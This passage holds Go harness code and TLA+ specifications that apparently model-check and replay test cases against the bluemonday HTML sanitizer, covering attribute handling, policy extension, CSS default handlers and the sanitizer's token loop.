// single-attribute tag) of the family is run on a FRESH policy and the later tag judged by the oracles.
func pairSweep(fam *Family, rid int, res *RunResult, props []string, seenV map[string]bool) {
	recipe := fam.Recipes[rid-1]
	model := BuildAP(recipe)
	els := []string{}
	for el := range fam.Attrs {
		els = append(els, Dec(el))
	}
	sort.Strings(els)
	for _, e1 := range els {
		first := Serialise([]Tok{{T: "start", N: e1, A: []Attr{{"title", "t"}, {"class", "abc"}, {"style", "color: red"}}}}, nil)
		for el, as := range fam.Attrs {
			for _, a := range decAttrs(as) {
				toks := []Tok{{T: "start", N: Dec(el), A: []Attr{a}}}
				b := Serialise(toks, nil)
				if !ReadsBackAs(b, toks) {
					continue
				}
				real := BuildReal(recipe)
				real.SanitizeBytes(first)
				real.SanitizeBytes(first)
				rec, out := RunRecorded(real, b)
				res.Execs++
				res.judge(props, NewExec(recipe, model, real, b, out, rec), seenV)
			}
		}
	}
}

func replayAttrsCase(fam *Family, c *attrsCase, res *RunResult, rng *rand.Rand, variants int, props []string,
	cache map[int]*polCacheEntry, seenV, seenNT map[string]bool) {
	res.Cases++
	memGuard(cache, res.Cases)
	if fam.PairSweep && !sweptRecipes[c.Rid] {
		sweptRecipes[c.Rid] = true
		pairSweep(fam, c.Rid, res, props, seenV)
	}
	pe := cache[c.Rid]
	recipe := fam.Recipes[c.Rid-1]
	if pe == nil {
		pe = &polCacheEntry{real: BuildReal(recipe), model: BuildAP(recipe)}
		cache[c.Rid] = pe
		if d := APDiff(pe.model, SnapshotAP(pe.real)); len(d) > 0 {
			res.diverge("recipe %d: real policy differs from the model: %s", c.Rid, d[0])
		}
	}
	pe.uses++
	as, want := decAttrs(c.As), decAttrs(c.Res)
	toks := []Tok{{T: "start", N: Dec(c.El), A: as}}
	if !VoidEls[Dec(c.El)] && !RawEls[Dec(c.El)] {
		toks = append(toks, Tok{T: "end", N: Dec(c.El), A: []Attr{}}) // a complete, well-nested document
	}
	for v := 0; v < variants; v++ {
		var r *rand.Rand
		if v > 0 {
			r = rng
		}
		b := Serialise(toks, r)
		if !ReadsBackAs(b, toks) {
			res.Dropped++
			continue
		}
		rec, out := RunRecorded(pe.real, b)
		res.Execs++
		x := NewExec(recipe, pe.model, pe.real, b, out, rec)
		if len(want) != len(as) || !attrsEq(want, as) {
			seenNT[fmt.Sprintf("%d|%s", c.Rid, toks[0])] = true
		}
		if len(res.Samples) < 3 && len(as) >= 2 && len(want) > 0 {
			res.Samples = append(res.Samples, map[string]interface{}{"recipe_index": c.Rid, "input": string(b), "predicted_attrs": want, "observed_output": string(out)})
		}
		switch {
		case rec.Panic != "":
			res.diverge("panic: %s on %q", rec.Panic, b)
		case len(rec.Toks) != len(toks):
			res.diverge("token count %d on %q", len(rec.Toks), b)
		default:
			te := rec.Toks[0]
			blocked := unsafeName(toks[0].N) && !pe.model.Unsafe
			expectCall := c.Known && len(as) > 0 && !blocked
			if te.Called != expectCall {
				res.diverge("sanitizeAttrs called=%v, spec expects %v on %q", te.Called, expectCall, b)
			} else if te.Called && !attrsEq(te.After, want) {
				res.diverge("attributes of %q: real %v spec %v", b, te.After, want)
			} else if !blocked && c.Known {
				emit := len(te.Writes) >= 1 && (te.Writes[0].Tok.T == "start")
				wantEmit := len(want) > 0 || (len(as) == 0 || len(want) == 0) && c.Bare
				if emit != wantEmit {
					res.diverge("tag emitted=%v, spec expects %v on %q", emit, wantEmit, b)
				}
			}
		}
		res.judge(props, x, seenV)
	}
}

func init() { Commands["replayattrs"] = cmdReplayAttrs }

// cmdExtendSweep: build - use - extend - use, deterministically.  For every recipe of a loop family and every split point, the
// first part is built, every small well-nested document over the family's start tags is sanitised, the rest of the recipe is
// applied, and the same documents (and pairs nested in one another) are sanitised again and judged by the oracles.  Whatever
// the library remembers about what a policy has seen must not survive an extension of the policy.
func cmdExtendSweep(args []string) int {
	fs := flag.NewFlagSet("extendsweep", flag.ExitOnError)
	famPath := fs.String("fam", "", "")
	propsS := fs.String("props", "", "")
	_ = fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "extendsweep", "")
	fs.Parse(args)
	fam, err := LoadFamily(*famPath)
	if err != nil {
		fmt.Fprintln(os.Stderr, "extendsweep:", err)
		return 2
	}
	props := splitProps(*propsS)
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	seenV := map[string]bool{}
	// the documents: <t>x</t> for every start token t (with its end tag if the family has one), and t1 around t2
	starts := []Tok{}
	hasEnd := map[string]bool{}
	for _, t := range fam.Tokens {
		dt := DecTok(t)
		if dt.T == "end" {
			hasEnd[dt.N] = true
		}
	}
	for _, t := range fam.Tokens {
		dt := DecTok(t)
		if dt.T == "start" && hasEnd[dt.N] && !RawEls[dt.N] && !VoidEls[dt.N] {
			starts = append(starts, dt)
		}
	}
	docs := [][]Tok{}
	// attribute families: one document per (element, attribute) of the alphabet
	attrEls := []string{}
	for el := range fam.Attrs {
		attrEls = append(attrEls, el)
	}
	sort.Strings(attrEls)
	for _, el := range attrEls {
		n := Dec(el)
		for _, a := range decAttrs(fam.Attrs[el]) {
			st := Tok{T: "start", N: n, A: []Attr{a}}
			if VoidEls[n] {
				docs = append(docs, []Tok{st})
			} else {
				docs = append(docs, []Tok{st, {T: "text", D: "x", A: []Attr{}}, {T: "end", N: n, A: []Attr{}}})
			}
		}
	}
	for _, a := range starts {
		docs = append(docs, []Tok{a, {T: "text", D: "x", A: []Attr{}}, {T: "end", N: a.N, A: []Attr{}}})
		for _, b := range starts {
			docs = append(docs, []Tok{a, b, {T: "text", D: "y", A: []Attr{}}, {T: "end", N: b.N, A: []Attr{}}, {T: "end", N: a.N, A: []Attr{}}})
		}
	}
	for _, recipe := range fam.Recipes {
		for k := 1; k < len(recipe); k++ {
			b := &Builder{}
			for _, c := range recipe[:k] {
				c.norm()
				b.Apply(c)
			}
			if b.P == nil {
				continue
			}
			prior := [][]byte{}
			for _, d := range docs {
				in := Serialise(d, nil)
				prior = append(prior, in)
				b.P.SanitizeBytes(append([]byte{}, in...))
			}
			for _, c := range recipe[k:] {
				c.norm()
				b.Apply(c)
			}
			model := BuildAP(recipe)
			for _, d := range docs {
				in := Serialise(d, nil)
				if !ReadsBackAs(in, d) {
					continue
				}
				rec, out := RunRecorded(b.P, in)
				res.Execs++
				x := NewExec(recipe, model, b.P, in, out, rec)
				x.ExtendAt, x.Prior = k, prior
				res.judge(props, x, seenV)
			}
			res.Cases++
		}
	}
	res.Nontrivial = res.Cases
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("extendsweep: cases=%d execs=%d violations=%d\n", res.Cases, res.Execs, len(res.Violations))
	return 0
}

func init() { Commands["extendsweep"] = cmdExtendSweep }
