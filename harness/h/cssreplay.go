package h

import (
	"bufio"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"strings"

	"github.com/microcosm-cc/bluemonday/css"
)

// C18: default CSS handlers accept only inert, whole values.

type cssCase struct {
	Prop    string   `json:"prop"`
	Atoms   []string `json:"atoms"`
	Frag    string   `json:"frag"`
	Mode    string   `json:"mode"`
	Pos     int      `json:"pos"`
	Verdict string   `json:"verdict"`
}

// values: the concrete strings of a structured case (mode "inside": the fragment at every cut of the atom).
func (c *cssCase) values() []string {
	if c.Mode == "subst" {
		out := []string{}
		atoms := make([]string, len(c.Atoms))
		for i, a := range c.Atoms {
			atoms[i] = Dec(a)
		}
		a := atoms[c.Pos-1]
		for k := 0; k < len(a); k++ {
			atoms[c.Pos-1] = a[:k] + Dec(c.Frag) + a[k+1:]
			out = append(out, strings.Join(atoms, " "))
		}
		return out
	}
	if c.Mode != "inside" {
		return []string{c.assembleCut(0)}
	}
	out := []string{}
	a := Dec(c.Atoms[c.Pos-1])
	for cut := 1; cut < len(a); cut++ {
		out = append(out, c.assembleCut(cut))
	}
	if len(out) == 0 {
		out = append(out, c.assembleCut(0))
	}
	return out
}

func (c *cssCase) assemble() string { return c.assembleCut(0) }

// assembleCut builds the concrete value of a structured case.
func (c *cssCase) assembleCut(cutAt int) string {
	atoms := make([]string, len(c.Atoms))
	for i, a := range c.Atoms {
		atoms[i] = Dec(a)
	}
	f := Dec(c.Frag)
	if c.Mode == "none" || c.Mode == "" {
		return strings.Join(atoms, " ")
	}
	if c.Mode == "sep" {
		out := append([]string{}, atoms[:c.Pos]...)
		out = append(out, f)
		out = append(out, atoms[c.Pos:]...)
		return strings.Join(out, " ")
	}
	i := c.Pos - 1
	a := atoms[i]
	switch c.Mode {
	case "before":
		atoms[i] = f + a
	case "after":
		atoms[i] = a + f
	case "inside":
		cut := cutAt
		if cut <= 0 || cut >= len(a) {
			cut = len(a) / 2
		}
		atoms[i] = a[:cut] + f + a[cut:]
	case "comma":
		atoms[i] = a + "," + f
	case "slash":
		atoms[i] = a + "/" + f
	case "newline":
		atoms[i] = a + "\n" + f
	case "mid":
		atoms[i] = a + " " + f + " " + a
	}
	return strings.Join(atoms, " ")
}

// CSSReplayFile reproduces a C18 finding.
type CSSReplayFile struct {
	Property string `json:"property"`
	Key      string `json:"key"`
	Detail   string `json:"detail"`
	Prop     string `json:"css_property"`
	Value    string `json:"value"`
	Scoped   string `json:"scoped_for,omitempty"` // set for the scoped end-to-end check: the property the policy was built for
}

type scopedFinding struct{ pr, value, detail string }

// scopedStyleCheck sanitises through the element and element-pattern scopes with the property named together with others in one
// AllowStyles call: each property must be judged by ITS OWN default handler, an unknown one by none.
func scopedStyleCheck(prop string) []scopedFinding {
	other, foreign := "font-family", "arial"
	if prop == "font-family" {
		other, foreign = "color", "red"
	}
	const unk = "zz-no-such-property"
	r := Recipe{{M: "NewPolicy"}, {M: "AllowElements", Names: []string{"span"}}, {M: "AllowElementsMatching", Pat: "^custom-"},
		{M: "AllowStyles", Props: []string{other, prop, unk}, Scope: "pat", Pat: "^custom-"},
		{M: "AllowStyles", Props: []string{unk, prop, other}, Scope: "els", Els: []string{"span"}}}
	for i := range r {
		r[i].norm()
	}
	sp := BuildReal(r)
	direct, _ := handlerAccepts(prop, foreign)
	var fs []scopedFinding
	for _, el := range []string{"custom-x", "span"} {
		for _, pr := range []string{prop, unk} {
			in := `<` + el + ` style="` + pr + `: ` + foreign + `">t</` + el + `>`
			out := sp.Sanitize(in)
			keptDecl := false
			for _, t := range Tokens([]byte(out)) {
				for _, a := range t.A {
					if a.K == "style" && strings.Contains(a.V, pr) {
						keptDecl = true
					}
				}
			}
			if keptDecl && (pr == unk || !direct) {
				why := "the default handler of " + prop + " rejects " + foreign
				if pr == unk {
					why = "an unknown property has no default handler"
				}
				fs = append(fs, scopedFinding{pr, foreign, fmt.Sprintf("Sanitize(%q) = %q under AllowStyles(%q, %q, %q) without a matcher: the declaration is kept although %s", in, out, other, prop, unk, why)})
			}
		}
	}
	return fs
}

func handlerAccepts(prop, v string) (ok bool, panicked string) {
	defer func() {
		if e := recover(); e != nil {
			panicked = fmt.Sprint(e)
		}
	}()
	return css.GetDefaultHandler(prop)(v), ""
}

func cmdReplayCSS(args []string) int {
	fs := flag.NewFlagSet("replaycss", flag.ExitOnError)
	_ = fs.String("fam", "", "")
	_ = fs.String("props", "", "")
	_ = fs.Int("variants", 1, "")
	_ = fs.Int64("seed", 1, "")
	outPath := fs.String("out", "", "")
	job := fs.String("job", "replaycss", "")
	fs.Parse(args)
	res := &RunResult{Job: *job, Applicable: map[string]int{}}
	seen := map[string]bool{}
	atomsTried, atomsAccepted := map[string]int{}, map[string]int{}
	rejectedAtom := map[string]bool{}
	pols := map[string]*polCacheEntry{}
	e2e := 0
	scopedDone := map[string]bool{}
	add := func(key, det, prop, v string) {
		if !seen[key] || len(res.Violations) < 8 {
			seen[key] = true
			os.MkdirAll(ReplayDir(), 0o755)
			path := fmt.Sprintf("%s/C18-%08x.json", ReplayDir(), hashString(prop+"|"+v))
			os.WriteFile(path, JSON(CSSReplayFile{"C18", key, det, prop, v, ""}), 0o644)
			res.Violations = append(res.Violations, ViolationRec{Finding{"C18", key, det}, path})
		}
	}
	addScoped := func(key, det, prop, v, scopedFor string) {
		if !seen[key] || len(res.Violations) < 8 {
			seen[key] = true
			os.MkdirAll(ReplayDir(), 0o755)
			path := fmt.Sprintf("%s/C18-%08x.json", ReplayDir(), hashString("scoped|"+scopedFor+"|"+prop))
			os.WriteFile(path, JSON(CSSReplayFile{"C18", key, det, prop, v, scopedFor}), 0o644)
			res.Violations = append(res.Violations, ViolationRec{Finding{"C18", key, det}, path})
		}
	}
	in := bufio.NewReaderSize(os.Stdin, 1<<20)
	for {
		line, err := in.ReadString('\n')
		if js, ok := parseCaseLine(strings.TrimRight(line, "\r\n")); ok {
			var c cssCase
			if e := json.Unmarshal([]byte(js), &c); e != nil {
				fmt.Fprintln(os.Stderr, "replaycss: bad case:", e)
				return 2
			}
			res.Cases++
			v := c.assemble()
			switch c.Verdict {
			case "accept-expected":
				got, _ := handlerAccepts(c.Prop, v)
				atomsTried[c.Prop]++
				if un, _ := handlerAccepts("no-such-property-"+c.Prop, v); un {
					add("unknown-accepts", fmt.Sprintf("the handler looked up for an unknown property accepts %q", v), "no-such-property-"+c.Prop, v)
				}
				if got {
					atomsAccepted[c.Prop]++
				} else {
					rejectedAtom[c.Prop+"|"+Dec(c.Atoms[0])] = true
				}
				res.Execs++
			case "reject":
				// atoms the real handler does not accept are left out of generation
				skip := false
				for _, a := range c.Atoms {
					if rejectedAtom[c.Prop+"|"+Dec(a)] {
						skip = true
					}
				}
				if skip {
					res.Dropped++
					continue
				}
				res.Execs++
				res.Applicable["C18"]++
				vals := []string{}
				for _, x := range c.values() {
					vals = append(vals, x, strings.ToLower(x))
				}
				for _, val := range vals {
					got, pm := handlerAccepts(c.Prop, val)
					if pm != "" {
						add("panic:"+c.Prop, fmt.Sprintf("default handler of %s panicked on %q: %s", c.Prop, val, pm), c.Prop, val)
					}
					if got {
						add("accepts:"+c.Prop+":"+Dec(c.Frag), fmt.Sprintf("default handler of %s accepts %q (hostile fragment %q, %s at position %d)", c.Prop, val, Dec(c.Frag), c.Mode, c.Pos), c.Prop, val)
					}
				}
				if un, _ := handlerAccepts("no-such-property-"+c.Prop, v); un {
					add("unknown-accepts", fmt.Sprintf("the handler looked up for an unknown property accepts %q", v), "no-such-property-"+c.Prop, v)
				}
				// end to end for a sample: through Policy.Sanitize with AllowStyles(prop).Globally()
				if res.Cases%37 == 0 && !strings.ContainsAny(c.values()[0], "\"<>&\\") {
					e2e++
					pe := pols[c.Prop]
					if pe == nil {
						r := Recipe{{M: "NewPolicy"}, {M: "AllowElements", Names: []string{"span"}}, {M: "AllowStyles", Props: []string{c.Prop}, Scope: "glob"}}
						for i := range r {
							r[i].norm()
						}
						pe = &polCacheEntry{real: BuildReal(r), model: BuildAP(r)}
						pols[c.Prop] = pe
					}
					ev := c.values()[0]
					in := `<span style="` + c.Prop + `: ` + ev + `">t</span>`
					out := pe.real.Sanitize(in)
					kept := false
					for _, t := range Tokens([]byte(out)) {
						for _, a := range t.A {
							if a.K == "style" && strings.Contains(a.V, Dec(c.Frag)) {
								kept = true
							}
						}
					}
					if kept {
						add("e2e:"+c.Prop, fmt.Sprintf("Sanitize(%q) with AllowStyles(%q).Globally() = %q keeps the hostile fragment", in, c.Prop, out), c.Prop, v)
					}
					// the same through the element and element-pattern scopes, the property named together with others in one
					// AllowStyles call: each property must be judged by ITS OWN default handler, an unknown one by none
					if !scopedDone[c.Prop] {
						scopedDone[c.Prop] = true
						for _, f := range scopedStyleCheck(c.Prop) {
							addScoped("e2e-handler:"+f.pr, f.detail, f.pr, f.value, c.Prop)
						}
					}
				}
				if len(res.Samples) < 4 && len(c.Atoms) > 0 && res.Cases%5003 == 0 {
					res.Samples = append(res.Samples, map[string]interface{}{"property": c.Prop, "value": v, "fragment": Dec(c.Frag), "mode": c.Mode, "spec_verdict": c.Verdict})
				}
			}
		}
		if err != nil {
			break
		}
	}
	tried, acc, low := 0, 0, []string{}
	for p, n := range atomsTried {
		tried += n
		acc += atomsAccepted[p]
		if atomsAccepted[p]*2 < n {
			low = append(low, p)
		}
	}
	res.Nontrivial = res.Execs
	res.Extra = map[string]interface{}{"vocabulary_atoms_tried": tried, "vocabulary_atoms_accepted": acc, "properties_with_less_than_half_accepted": low, "end_to_end_samples": e2e}
	if *outPath != "" {
		os.WriteFile(*outPath, JSON(res), 0o644)
	}
	fmt.Printf("replaycss: cases=%d execs=%d atoms %d/%d violations=%d\n", res.Cases, res.Execs, acc, tried, len(res.Violations))
	if tried > 0 && len(low)*4 > len(atomsTried) {
		fmt.Fprintln(os.Stderr, "replaycss: the vocabulary is out of date (fewer than half of the atoms accepted for many properties)")
		return 2
	}
	return 0
}

func reproC18(path string) int {
	var rf CSSReplayFile
	if err := LoadJSONFile(path, &rf); err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 2
	}
	if rf.Scoped != "" {
		fs := scopedStyleCheck(rf.Scoped)
		for _, f := range fs {
			fmt.Printf("VIOLATION property=C18 replay=%s\n  %s\n", path, f.detail)
		}
		if len(fs) > 0 {
			return 1
		}
		fmt.Println("property holds on this replay")
		return 0
	}
	got, pm := handlerAccepts(rf.Prop, rf.Value)
	fmt.Printf("GetDefaultHandler(%q)(%q) = %v %s\n", rf.Prop, rf.Value, got, pm)
	if got || pm != "" {
		fmt.Printf("VIOLATION property=C18 replay=%s\n  %s\n", path, rf.Detail)
		return 1
	}
	fmt.Println("property holds on this replay")
	return 0
}

func init() { Commands["replaycss"] = cmdReplayCSS }
