// vh is the harness binary: one subcommand per job of the runner.
package main

import (
	"fmt"
	"os"

	"verifharness/h"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: vh <subcommand> ...")
		os.Exit(2)
	}
	cmd, args := os.Args[1], os.Args[2:]
	if cmd != "dumpsnap" {
		if err := h.LoadVocab(); err != nil {
			fmt.Fprintln(os.Stderr, "vocab:", err)
			os.Exit(2)
		}
	}
	f, ok := h.Commands[cmd]
	if !ok {
		fmt.Fprintln(os.Stderr, "unknown subcommand", cmd)
		os.Exit(2)
	}
	os.Exit(f(args))
}
