SPECIFICATION Spec
CONSTANT Emit = TRUE
INVARIANT EmitCase
INVARIANT InvEntryAgree
INVARIANT InvPrefix
INVARIANT InvFailIsLast
INVARIANT InvFailReported
PROPERTY AfterFailNoWrite
PROPERTY Termination
CHECK_DEADLOCK FALSE
