-------------------------------- MODULE MC_IO --------------------------------
(***************************************************************************)
(* Bounded machine for BM_IO: a policy recipe and an input from a family,  *)
(* every entry point, both writer kinds, every index of the write sequence *)
(* as a failure point (transient and permanent) and every token offset as  *)
(* a reader failure point.  Each finished run is emitted as a CASE and     *)
(* replayed with a scripted io.Reader / io.Writer around the real entry    *)
(* point (the harness adds the byte-level chunkings).                      *)
(***************************************************************************)
EXTENDS BM_IO, IOUtils, TLCExt

FamFile   == IF "FAM" \in DOMAIN IOEnv THEN IOEnv.FAM ELSE "fam_io.json"
FactsFile == IF "FACTS" \in DOMAIN IOEnv THEN IOEnv.FACTS ELSE "facts.json"
ASSUME TLCSet(43, JsonDeserialize(FamFile))
ASSUME TLCGet(43) = TLCGet(43)
ASSUME TLCSet(42, JsonDeserialize(FactsFile))
ASSUME TLCGet(42) = TLCGet(42)
Fam == TLCGet(43)

CONSTANT Emit
VARIABLES rid, did
vars == <<pol, toks, env, pos, st, writes, status, rid, did>>

Docs == Fam.docs          \* sequence of [toks, blank]

MaxWrites(r, d) == Len(Run(Build(Fam.recipes[r]), Docs[d].toks))

Envs(r, d) ==
  [entry : Entries, wkind : {"string"}, failAt : {0}, failMode : {"transient"}, rfail : {-1}, blank : {Docs[d].blank}]
  \cup
  [entry : {"SanitizeReaderToWriter"}, wkind : {"string", "plain"}, failAt : 0..MaxWrites(r, d),
   failMode : {"transient", "permanent"}, rfail : {-1}, blank : {Docs[d].blank}]
  \cup
  [entry : {"SanitizeReader", "SanitizeReaderToWriter"}, wkind : {"string"}, failAt : {0}, failMode : {"transient"},
   rfail : 0..Len(Docs[d].toks), blank : {Docs[d].blank}]

Init == \E r \in DOMAIN Fam.recipes, d \in DOMAIN Docs : \E e \in Envs(r, d) :
          rid = r /\ did = d /\ IOInit(Build(Fam.recipes[r]), Docs[d].toks, e)

Next == IONext /\ UNCHANGED <<rid, did>>
Spec == Init /\ [][Next]_vars /\ WF_vars(Next)

\* every call returns (C14, at the level of the specification): under weak fairness of the loop every behaviour
\* reaches a final status
Termination == <>Done

EmitCase == (Emit /\ Done) =>
   PrintT(<<"CASE", ToJson([rid |-> rid, did |-> did, env |-> env, writes |-> writes, status |-> status,
                            reterr |-> ReturnsError, returned |-> Returned, pos |-> pos])>>)

InvEntryAgree == EntryAgree
InvPrefix == PrefixOfFaultFree
InvFailIsLast == FailIsLast
InvFailReported == FailReported
=============================================================================
