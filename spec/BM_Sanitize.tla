----------------------------- MODULE BM_Sanitize -----------------------------
(***************************************************************************)
(* The token loop of sanitize(): the code's own five state variables, one  *)
(* named branch per path through the switch.  Step/Emitted are functions   *)
(* of (policy, loop state, token), so that the same definitions serve the  *)
(* single-call machine below, the multi-call machines (BM_IO, BM_Conc),    *)
(* trace validation and the whole-run operator Run.                        *)
(*                                                                         *)
(* Tokens:  [t, n, a, d]   t \in start end self text comment doctype       *)
(*          n element name (as the tokenizer reports it: ASCII lower-case) *)
(*          a sequence of [k, v]      d text / comment data                *)
(* Output tokens additionally: t = "space" (the " " written for a removed  *)
(* tag when AddSpaceWhenStrippingTag is on) and t = "raw" (script/style    *)
(* body written unescaped under AllowUnsafe).                              *)
(***************************************************************************)
EXTENDS BM_AttrProps

VoidEls == {"area", "base", "br", "col", "embed", "frame", "hr", "img", "input",
            "keygen", "link", "meta", "param", "source", "track", "wbr"}
Void(n) == n \in VoidEls

\* elements after whose start tag the tokenizer reads raw text up to the matching end tag
RawEls == {"iframe", "noembed", "noframes", "noscript", "plaintext", "script", "style",
           "textarea", "title", "xmp"}

UnsafeNames == {"script", "style"}
Blocked(p, n) == Norm(n) \in UnsafeNames /\ ~p.unsafe

\* mrst: the (normalised) name of the most recent start or self-closing tag, cleared by its end tag;
\* kept: whether that tag was written.  The hooks log skip, cnt, stack and mrst (Logged); kept is
\* inferred by the specification.
St0 == [skip |-> FALSE, cnt |-> 0, stack |-> <<>>, mrst |-> "", kept |-> FALSE]
Logged(st) == [skip |-> st.skip, cnt |-> st.cnt, stack |-> st.stack, mrst |-> st.mrst]

Tok(t, n, a, d) == [t |-> t, n |-> n, a |-> a, d |-> d]
Space == Tok("space", "", <<>>, "")
SpaceIf(p) == IF p.addSpaces THEN <<Space>> ELSE <<>>

Last(s) == s[Len(s)]
Front(s) == SubSeq(s, 1, Len(s) - 1)

\* what sanitizeAttrs leaves on a tag (it is not called for a tag without attributes)
After(p, tok) == IF tok.a = <<>> THEN <<>> ELSE SanitizeAttrs(p, tok.n, tok.a)

---------------------------------------------------------------------------
\* The stack of remembered start tags holds the names of dropped elements (their end tags must be dropped
\* too) and, marked with "+", kept elements that opened while a dropped (or marked) element of the same
\* name was on top: their end tag only removes the marker.
Marker(n) == "+" \o n
TopIs(st, x) == st.stack # <<>> /\ Last(st.stack) = x
\* the stack a kept (or hidden) start tag leaves
PushKept(st, n) == IF TopIs(st, n) \/ TopIs(st, Marker(n)) THEN Append(st.stack, Marker(n)) ELSE st.stack
\* an end tag whose marker is on top removes it and is then handled like any other end tag
StackAtEnd(st, n) == IF TopIs(st, Marker(n)) THEN Front(st.stack) ELSE st.stack

\* Branch names the path through the switch; `after` is the attribute list left by the pipeline.
Branch(p, st, tok, after) ==
  CASE tok.t = "doctype" -> "Doctype"
    [] tok.t = "comment" -> IF p.comments /\ ~st.skip THEN "CommentKept" ELSE "CommentDropped"
    [] tok.t = "start" ->
         IF Blocked(p, tok.n) THEN "StartBlocked"
         ELSE IF ~Known(p, tok.n)
              THEN IF tok.n \in p.skip /\ ~Void(tok.n) THEN "StartUnknownSkip" ELSE "StartUnknown"
         ELSE IF after = <<>> /\ ~BareOK(p, tok.n)
              THEN IF Void(tok.n) THEN "StartBareVoid" ELSE "StartBareDropped"
         ELSE IF st.skip THEN "StartHidden" ELSE "StartKept"
    [] tok.t = "end" ->
         IF Blocked(p, tok.n) THEN "EndBlocked"
         ELSE IF TopIs(st, tok.n) THEN "EndPopsDropped"
         ELSE IF ~Explicit(p, tok.n) /\ PatsFor(p, tok.n) = {}
              THEN IF tok.n \in p.skip /\ ~Void(tok.n) THEN "EndUnknownSkip" ELSE "EndUnknown"
         ELSE IF st.skip THEN "EndHidden" ELSE "EndKept"
    [] tok.t = "self" ->
         IF Blocked(p, tok.n) THEN "SelfBlocked"
         ELSE IF ~Known(p, tok.n) THEN "SelfUnknown"
         ELSE IF after = <<>> /\ ~BareOK(p, tok.n) THEN "SelfBareDropped"
         ELSE IF st.skip THEN "SelfHidden" ELSE "SelfKept"
    [] tok.t = "text" ->
         IF st.skip THEN "TextSkipped"
         ELSE IF st.mrst \in UnsafeNames
              THEN (IF ~p.unsafe THEN "TextUnsafeBody"           \* never written
                    ELSE IF st.kept THEN "TextRaw"                \* body of a script/style element that is in the output
                    ELSE "TextEscaped")                           \* its tag was removed: ordinary text
         ELSE "TextEscaped"

Branches == {"Doctype", "CommentKept", "CommentDropped",
             "StartBlocked", "StartUnknownSkip", "StartUnknown", "StartBareVoid", "StartBareDropped",
             "StartHidden", "StartKept",
             "EndBlocked", "EndPopsDropped", "EndUnknownSkip", "EndUnknown", "EndHidden", "EndKept",
             "SelfBlocked", "SelfUnknown", "SelfBareDropped", "SelfHidden", "SelfKept",
             "TextSkipped", "TextRaw", "TextUnsafeBody", "TextEscaped"}

\* the loop state after the step
StepB(p, st, tok, b) ==
  LET m == CASE tok.t \in {"start", "self"} -> Norm(tok.n)
             [] tok.t = "end" -> IF st.mrst = Norm(tok.n) THEN "" ELSE st.mrst
             [] OTHER -> st.mrst
      s1 == [st EXCEPT !.mrst = m,
                       !.kept = IF tok.t \in {"start", "self"} THEN b \in {"StartKept", "SelfKept"} ELSE @]
      s2 == IF tok.t = "end" /\ b # "EndBlocked" THEN [s1 EXCEPT !.stack = StackAtEnd(st, tok.n)] ELSE s1
  IN  CASE b = "StartUnknownSkip" -> [s2 EXCEPT !.skip = TRUE, !.cnt = @ + 1]
        [] b = "StartBareDropped" -> [s2 EXCEPT !.stack = Append(@, tok.n)]
        [] b \in {"StartKept", "StartHidden"} -> [s2 EXCEPT !.stack = PushKept(st, tok.n)]
        [] b = "EndPopsDropped"   -> [s2 EXCEPT !.stack = Front(@)]
        [] b = "EndUnknownSkip"   -> [s2 EXCEPT !.cnt = @ - 1, !.skip = IF st.cnt - 1 = 0 THEN FALSE ELSE @]
        [] OTHER -> s2

\* the tokens written during the step
EmitB(p, tok, after, b) ==
  CASE b \in {"StartKept", "SelfKept"} -> <<Tok(tok.t, tok.n, after, "")>>
    [] b = "EndKept"      -> <<Tok("end", tok.n, <<>>, "")>>
    [] b = "CommentKept"  -> <<Tok("comment", "", <<>>, tok.d)>>
    [] b = "TextEscaped"  -> <<Tok("text", "", <<>>, tok.d)>>
    [] b = "TextRaw"      -> <<Tok("raw", "", <<>>, tok.d)>>
    [] b \in {"StartUnknownSkip", "StartUnknown", "StartBareVoid", "StartBareDropped",
              "EndPopsDropped", "EndUnknownSkip", "EndUnknown",
              "SelfUnknown", "SelfBareDropped"} -> SpaceIf(p)
    [] OTHER -> <<>>

Step(p, st, tok)    == StepB(p, st, tok, Branch(p, st, tok, After(p, tok)))
Emitted(p, st, tok) == EmitB(p, tok, After(p, tok), Branch(p, st, tok, After(p, tok)))

---------------------------------------------------------------------------
\* whole runs
RECURSIVE RunFrom(_, _, _)
RunFrom(p, st, toks) ==
  IF toks = <<>> THEN <<>>
  ELSE Emitted(p, st, Head(toks)) \o RunFrom(p, Step(p, st, Head(toks)), Tail(toks))
Run(p, toks) == RunFrom(p, St0, toks)

\* adjacent character data merges when the output is read back
RECURSIVE MergeText(_)
IsChar(t) == t.t \in {"text", "space"}
CharData(t) == IF t.t = "space" THEN " " ELSE t.d
MergeText(toks) ==
  IF Len(toks) < 2 THEN (IF toks # <<>> /\ toks[1].t = "space" THEN <<Tok("text", "", <<>>, " ")>> ELSE toks)
  ELSE IF IsChar(toks[1]) /\ IsChar(toks[2])
       THEN MergeText(<<Tok("text", "", <<>>, CharData(toks[1]) \o CharData(toks[2]))>> \o SubSeq(toks, 3, Len(toks)))
       ELSE (IF toks[1].t = "space" THEN <<Tok("text", "", <<>>, " ")>> ELSE <<toks[1]>>) \o MergeText(Tail(toks))

---------------------------------------------------------------------------
\* per-step invariants.  Each step only appends to out, so the invariants are
\* stated over the whole of out and hold in every state.

IsTag(t) == t.t \in {"start", "end", "self"}

\* C01: only allowlisted elements; comments only when allowed (and never from a skipped region); no doctype
I01(p, o) == \A i \in DOMAIN o :
                /\ IsTag(o[i]) => Known(p, o[i].n)
                /\ o[i].t = "comment" => p.comments
                /\ o[i].t # "doctype"

\* C05: no script/style tag and no raw text unless AllowUnsafe
I05(p, o) == ~p.unsafe => \A i \in DOMAIN o : ~(IsTag(o[i]) /\ Norm(o[i].n) \in UnsafeNames) /\ o[i].t # "raw"

\* C02 (bare clause): an element permitted only with attributes is never emitted bare
I02bare(p, o) == \A i \in DOMAIN o : (o[i].t \in {"start", "self"} /\ o[i].a = <<>>) => BareOK(p, o[i].n)

\* structural invariants of the loop state
\* every entry is the name of a known, never-bare, non-void element (a dropped start tag), or the marker
\* of a kept element sitting directly on an entry or marker of the same name
RECURSIVE IsMark(_, _)
IsMark(stk, i) == i > 1 /\ (stk[i] = Marker(stk[i-1]) \/ (stk[i] = stk[i-1] /\ IsMark(stk, i - 1)))
StackInv(p, s) == \A i \in DOMAIN s.stack :
